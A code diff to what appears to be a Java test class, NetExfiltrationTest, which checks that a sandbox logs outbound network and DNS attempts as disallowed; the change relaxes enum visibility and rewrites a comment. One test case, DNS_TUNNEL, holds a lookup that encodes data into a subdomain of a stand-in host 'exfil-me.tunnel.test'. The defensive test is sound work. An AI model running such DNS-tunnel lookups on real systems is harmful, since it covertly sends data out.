@@ -39,7 +39,7 @@ class NetExfiltrationTest {
     }
 
     /// Where the record of an attempt is found.
-    private enum Recorded {
+    enum Recorded {
         /// A row of net_events that is not `allowed`.
         CONNECTION,
         /// A row of dns_events that is not `allowed`.
@@ -48,9 +48,8 @@ class NetExfiltrationTest {
         NOWHERE
     }
 
-    /// @param command ends with success only if the attempt did
-    /// @param trace a part of the name or host that the record must have
-    private enum Attempt {
+    /// Commands that end with success only if the attempt did, each with a part of the name that its record must have.
+    enum Attempt {
         DNS_TUNNEL(
                 "getent ahostsv4 MFRGGZDFMZTWQ2LKNNWG23TPOBYXE43UOV3HO6DZPI.exfil-me.tunnel.test",
                 Recorded.QUESTION,
